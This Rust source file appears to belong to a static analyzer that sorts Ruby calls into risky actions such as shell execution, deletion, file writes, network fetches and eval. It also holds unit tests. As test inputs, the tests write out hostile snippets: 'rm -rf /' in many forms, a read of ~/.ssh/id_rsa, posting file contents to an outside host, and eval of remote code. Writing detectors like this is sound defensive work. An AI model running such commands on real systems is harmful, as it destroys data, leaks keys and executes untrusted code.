//! Ruby.

use super::acts::Act;

pub(super) fn act(name: &str) -> Option<Act> {
    let name = name
        .trim_start_matches("Kernel.")
        .trim_start_matches("Process.")
        .trim_start_matches("FileUtils.");
    Some(match name {
        "System.cmd" => Act::File,
        "System.shell" => Act::Shell,
        "File.rm" | "File.rm!" | "File.rmdir" => Act::Delete { recursive: false },
        "File.rm_rf" | "File.rm_rf!" => Act::Delete { recursive: true },
        "system" | "exec" | "spawn" | "IO.popen" | "Open3.capture2" | "Open3.capture2e"
        | "Open3.capture3" | "Open3.popen3" | "Open3.popen2" => Act::System,
        "PTY.spawn" => Act::System,
        "File.delete"
        | "File.unlink"
        | "Dir.rmdir"
        | "Dir.delete"
        | "Dir.unlink"
        | "rm"
        | "rm_f"
        | "Pathname.new().delete"
        | "Pathname.new().unlink" => Act::Delete { recursive: false },
        "rm_rf"
        | "rm_r"
        | "rmtree"
        | "remove_dir"
        | "remove_entry"
        | "remove_entry_secure"
        | "Pathname.new().rmtree" => Act::Delete { recursive: true },
        "File.write"
        | "IO.write"
        | "File.binwrite"
        | "IO.binwrite"
        | "touch"
        | "mkdir_p"
        | "File.truncate"
        | "Pathname.new().write" => Act::Write,
        "Dir.chdir" | "chdir" => Act::Enter,
        "File.read"
        | "IO.read"
        | "File.readlines"
        | "IO.readlines"
        | "File.binread"
        | "File.foreach"
        | "IO.foreach"
        | "Pathname.new().read" => Act::Read,
        "File.open" | "File.new" | "open" | "URI.open" => Act::Open,
        "File.rename" | "mv" => Act::Move,
        "cp" | "cp_r" | "copy" | "File.symlink" | "ln_s" | "ln_sf" => Act::Copy,
        "Net.HTTP.post" | "Net.HTTP.post_form" => Act::Fetch("POST"),
        "Net.HTTP.get" | "Net.HTTP.get_response" => Act::Fetch("GET"),
        "TCPSocket.new" | "TCPSocket.open" => Act::Connect,
        "eval" | "instance_eval" | "class_eval" => Act::Eval,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use crate::code::check;
    use crate::reading::Language::Ruby;

    #[test]
    fn commands() {
        check(Ruby, "system(\"rm -rf /\")", &["shell rm -rf /"]);
        check(Ruby, "system 'rm', '-rf', '/'", &["argv rm -rf /"]);
        check(Ruby, "system(*%w[rm -rf /])", &["argv rm -rf /"]);
        check(Ruby, "puts `rm -rf /`", &["shell rm -rf /"]);
        check(Ruby, "%x(rm -rf /)", &["shell rm -rf /"]);
        check(Ruby, "d = '/'\nexec \"rm -rf #{d}\"", &["shell rm -rf /"]);
        check(Ruby, "IO.popen(['rm', '-rf', '/'])", &["argv rm -rf /"]);
        check(Ruby, "Open3.capture3('id')", &["shell id"]);
        check(Ruby, "Kernel.system({'A' => 'b'}, 'id')", &["shell id"]);
        check(Ruby, "puts \"#{`id`}\"", &["shell id"]);
        check(
            Ruby,
            "system(<<~EOF)\n  rm -rf /\nEOF\n",
            &["shell   rm -rf /\n"],
        );
        check(Ruby, "eval(\"system('id')\")", &["shell id"]);
    }

    #[test]
    fn files() {
        check(Ruby, "FileUtils.rm_rf(\"/\")", &["delete -r /"]);
        check(
            Ruby,
            "FileUtils.rm_rf %w(/a /b)",
            &["delete -r /a", "delete -r /b"],
        );
        check(
            Ruby,
            "require 'fileutils'; include FileUtils; rm_rf '/'",
            &["delete -r /"],
        );
        check(
            Ruby,
            "File.write(\"/etc/hosts\",\"x\")",
            &["write /etc/hosts"],
        );
        check(
            Ruby,
            "File.open('/etc/hosts', 'w') { |f| f.puts 'x' }",
            &["write /etc/hosts"],
        );
        check(
            Ruby,
            "puts File.read(File.join(Dir.home, '.ssh', 'id_rsa'))",
            &["read ~/.ssh/id_rsa"],
        );
        check(Ruby, "File.delete '/x' if true", &["delete /x"]);
        check(Ruby, "open('|id')", &["shell id"]);
        check(Ruby, "Pathname.new('/x').rmtree()", &["delete -r /x"]);
    }

    #[test]
    fn network() {
        check(
            Ruby,
            "Net::HTTP.post(URI('https://h.example'), File.read('k'))",
            &["POST https://h.example sends", "read k"],
        );
        check(
            Ruby,
            "eval(URI.open('https://h.example/x').read)",
            &["remote code https://h.example/x", "GET https://h.example/x"],
        );
    }

    #[test]
    fn data() {
        check(Ruby, "puts 'rm -rf /'", &[]);
        check(
            Ruby,
            "# system('rm -rf /')\n=begin\nsystem('x')\n=end\n",
            &[],
        );
        check(Ruby, "x = {system: 'rm -rf /', :exec => 'y'}", &[]);
        check(Ruby, "a = b % c; puts a / 2", &[]);
        check(Ruby, "def system(cmd); end", &[]);
        check(Ruby, "s =~ /system('rm')/", &[]);
    }
}
